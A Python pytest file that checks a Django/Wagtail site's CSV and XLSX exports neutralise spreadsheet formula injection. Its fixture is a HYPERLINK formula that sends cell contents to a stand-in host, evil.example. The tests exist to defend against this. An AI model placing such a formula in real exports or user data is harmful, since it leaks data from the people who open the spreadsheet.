"""Every CSV/XLSX export neutralises cells a spreadsheet would run as a formula (issue 20, 4)."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from core.spreadsheets import csv_text, safe_cell
from tests.factories import UserFactory
from tests.factories.pages import contact_page
from tests.factories.youth import ContactFactory
from youth import privacy

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'


def body(response):
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_neutralised(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_numbers_and_plain_text_are_left_as_they_are():
    assert safe_cell(-3) == -3
    assert safe_cell("Imane") == "Imane"
    assert safe_cell(None) == ""
    assert next(csv.reader(io.StringIO(csv_text(None, [["-5", 5]])))) == ["'-5", "5"]


def _youth_staff():
    user = UserFactory(is_staff=True)
    group = Group.objects.create(name=f"youth-{user.pk}")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="wagtailadmin", codename="access_admin"),
        *Permission.objects.filter(content_type__app_label="youth"),
    )
    user.groups.add(group)
    return user


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_youth_contacts_export_holds_no_live_formula(client, fmt):
    ContactFactory(first_name=FORMULA, city="+212 Oujda")
    client.force_login(_youth_staff())

    response = client.get(reverse("wagtailsnippets_youth_contact:list") + f"?export={fmt}")

    assert response.status_code == 200
    if fmt == "csv":
        cells = [
            c for row in csv.reader(io.StringIO(body(response).decode("utf-8-sig"))) for c in row
        ]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
        cells = [c for row in sheet.iter_rows(values_only=True) for c in row]
    assert "'" + FORMULA in cells
    assert "'+212 Oujda" in cells
    assert FORMULA not in cells


def test_the_contact_form_submissions_export_holds_no_live_formula(client):
    page = contact_page()
    client.post(page.url, {"nom": FORMULA, "email": "a@example.ma", "message": "@SUM(1)"})
    client.force_login(UserFactory(is_superuser=True, is_staff=True))

    response = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv")

    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(body(response).decode("utf-8-sig"))) for c in row]
    assert "'" + FORMULA in cells
    assert "'@SUM(1)" in cells
    assert FORMULA not in cells


def test_the_personal_data_copy_holds_no_live_formula():
    contact = ContactFactory(first_name=FORMULA)

    text = privacy.as_csv(privacy.export_all(contact.email, ""))

    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
